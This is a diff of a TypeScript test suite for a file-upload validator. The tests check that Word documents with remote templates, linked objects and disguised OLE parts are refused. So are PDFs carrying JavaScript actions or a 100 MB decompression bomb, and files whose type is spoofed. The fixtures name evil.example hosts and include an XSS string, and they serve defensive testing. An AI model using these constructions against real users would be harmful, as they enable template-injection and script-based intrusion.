@@ -1,8 +1,8 @@
 import sharp from "sharp";
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { createTestApp, type TestApp, type TestUser } from "../../../../test/create-test-app.ts";
-import { deflated, document, packed } from "./fixtures/pdf-writer.ts";
-import { outcomeOf, pdf, picture, recording, type Sent, upload } from "./fixtures/upload.ts";
+import { deflateStream, document, writePackedPdf } from "./fixtures/pdf-writer.ts";
+import { describeOutcome, pdf, picture, recording, type UploadRequest, upload } from "./fixtures/upload.ts";
 import { WORD_PARTS, zip } from "./fixtures/zip.ts";
 
 let server: TestApp;
@@ -16,7 +16,7 @@ beforeEach(async () => {
 });
 afterAll(() => server.close());
 
-const send = (sent: Sent) => upload(server, { user: student, ...sent });
+const send = (sent: UploadRequest) => upload(server, { user: student, ...sent });
 const REFUSED = "415 files.type_refused";
 const SCRIPT = "<script>alert(1)</script>";
 const text = (content: string) => Buffer.from(content);
@@ -28,7 +28,7 @@ const utf16 = (letters: string) => Buffer.from(`\ufeff${letters}`, "utf16le");
 
 const RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
 /** A Word document whose settings relate to something. */
-const related = (attributes: string, name = "word/_rels/settings.xml.rels") =>
+const makeRelatedDocument = (attributes: string, name = "word/_rels/settings.xml.rels") =>
   zip([
     ...WORD_PARTS,
     {
@@ -44,20 +44,34 @@ describe("a Word document", () => {
   it.each([
     [
       "a remote template",
-      related(`Type="${RELATIONS}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"`),
+      makeRelatedDocument(
+        `Type="${RELATIONS}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"`,
+      ),
     ],
     [
       "a remote template in other words",
-      related(`Type="${RELATIONS}/attachedTemplate" Target="file:///x" TargetMode="&#69;xternal"`),
+      makeRelatedDocument(`Type="${RELATIONS}/attachedTemplate" Target="file:///x" TargetMode="&#69;xternal"`),
     ],
     [
       "a template of a share, without its mode",
-      related(`Type="${RELATIONS}/attachedTemplate" Target="\\\\evil\\t.dotm"`),
+      makeRelatedDocument(`Type="${RELATIONS}/attachedTemplate" Target="\\\\evil\\t.dotm"`),
     ],
-    ["a remote picture", related(`Type="${RELATIONS}/image" Target="http://evil.example/a.png" TargetMode="External"`)],
-    ["a remote frame", related(`Type="${RELATIONS}/frame" Target="http://evil.example/" TargetMode="External"`)],
-    ["a linked object", related(`Type="${RELATIONS}/oleObject" Target="file:///c:/x" TargetMode="External"`)],
-    ["a link to a file", related(`Type="${RELATIONS}/hyperlink" Target="file:///c:/x" TargetMode="External"`)],
+    [
+      "a remote picture",
+      makeRelatedDocument(`Type="${RELATIONS}/image" Target="http://evil.example/a.png" TargetMode="External"`),
+    ],
+    [
+      "a remote frame",
+      makeRelatedDocument(`Type="${RELATIONS}/frame" Target="http://evil.example/" TargetMode="External"`),
+    ],
+    [
+      "a linked object",
+      makeRelatedDocument(`Type="${RELATIONS}/oleObject" Target="file:///c:/x" TargetMode="External"`),
+    ],
+    [
+      "a link to a file",
+      makeRelatedDocument(`Type="${RELATIONS}/hyperlink" Target="file:///c:/x" TargetMode="External"`),
+    ],
     [
       "relations that are no XML",
       zip([...WORD_PARTS, { name: "word/_rels/a.rels", bytes: text("<Relationships><a></Relationships>") }]),
@@ -72,22 +86,27 @@ describe("a Word document", () => {
     ["an object under another name", zip([...WORD_PARTS, { name: "word/embeddings/object.dat", bytes: ole }])],
     ["an object called a picture", zip([...WORD_PARTS, { name: "word/media/image1.png", bytes: ole }])],
   ])("with %s is refused", async (_what, bytes) => {
-    expect(outcomeOf(await send({ bytes, name: "x.docx", purpose: "task" }))).toBe("415 files.unsafe");
+    expect(describeOutcome(await send({ bytes, name: "x.docx", purpose: "task" }))).toBe("415 files.unsafe");
   });
 
   it.each([
     [
       "links to the web",
-      related(`Type="${RELATIONS}/hyperlink" Target="https://kalima.example/a?b=1&amp;c=2" TargetMode="External"`),
+      makeRelatedDocument(
+        `Type="${RELATIONS}/hyperlink" Target="https://kalima.example/a?b=1&amp;c=2" TargetMode="External"`,
+      ),
     ],
     [
       "a link to a mailbox",
-      related(`Type="${RELATIONS}/hyperlink" Target="mailto:a@kalima.example" TargetMode="External"`),
+      makeRelatedDocument(`Type="${RELATIONS}/hyperlink" Target="mailto:a@kalima.example" TargetMode="External"`),
     ],
-    ["parts of its own", related(`Type="${RELATIONS}/styles" Target="styles.xml"`)],
+    ["parts of its own", makeRelatedDocument(`Type="${RELATIONS}/styles" Target="styles.xml"`)],
     [
       "an absolute part",
-      related(`Type="${RELATIONS}/officeDocument" Target="/word/document.xml"`, "word/_rels/document.xml.rels"),
+      makeRelatedDocument(
+        `Type="${RELATIONS}/officeDocument" Target="/word/document.xml"`,
+        "word/_rels/document.xml.rels",
+      ),
     ],
     [
       "no relations",
@@ -120,21 +139,21 @@ describe("what a file is by its content decides, not its name and not what its s
     },
     { what: "a recording as a picture", bytes: recording(), purpose: "picture", name: "x.wav" },
   ])("refuses $what", async ({ name = "x.png", ...sent }) => {
-    expect(outcomeOf(await send({ ...sent, name }))).toBe(REFUSED);
+    expect(describeOutcome(await send({ ...sent, name }))).toBe(REFUSED);
   });
 
   it.each([
     { what: "a script", bytes: document({ more: { 5: "<</S/JavaScript/JS(x)>>" } }) },
-    { what: "a script in packed objects", bytes: packed({ more: { 5: "<</S/JavaScript/JS(x)>>" } }) },
-    { what: "a page that grows to 100 MB", bytes: document({ content: deflated("", Buffer.alloc(100_000_000)) }) },
+    { what: "a script in packed objects", bytes: writePackedPdf({ more: { 5: "<</S/JavaScript/JS(x)>>" } }) },
+    { what: "a page that grows to 100 MB", bytes: document({ content: deflateStream("", Buffer.alloc(100_000_000)) }) },
     { what: "nothing that can be read", bytes: text("%PDF-1.7\n%%EOF MZ") },
   ])("refuses a PDF with $what", async ({ bytes }) => {
-    expect(outcomeOf(await send({ bytes, name: "x.pdf", purpose: "proof" }))).toBe("415 files.unsafe");
+    expect(describeOutcome(await send({ bytes, name: "x.pdf", purpose: "proof" }))).toBe("415 files.unsafe");
   });
 
   it.each([
     { what: "a PDF", bytes: pdf(), purpose: "proof", type: "application/pdf" },
-    { what: "a PDF with packed objects", bytes: packed(), purpose: "proof", type: "application/pdf" },
+    { what: "a PDF with packed objects", bytes: writePackedPdf(), purpose: "proof", type: "application/pdf" },
     {
       what: "a Word document",
       bytes: zip(WORD_PARTS),
@@ -173,7 +192,7 @@ it.each([
     outcome: "415 files.type_refused",
   },
 ])("$what is refused by its reason", async ({ bytes, name, outcome }) => {
-  expect(outcomeOf(await send({ bytes, name, purpose: "task" }))).toBe(outcome);
+  expect(describeOutcome(await send({ bytes, name, purpose: "task" }))).toBe(outcome);
 });
 
 describe("a picture", () => {
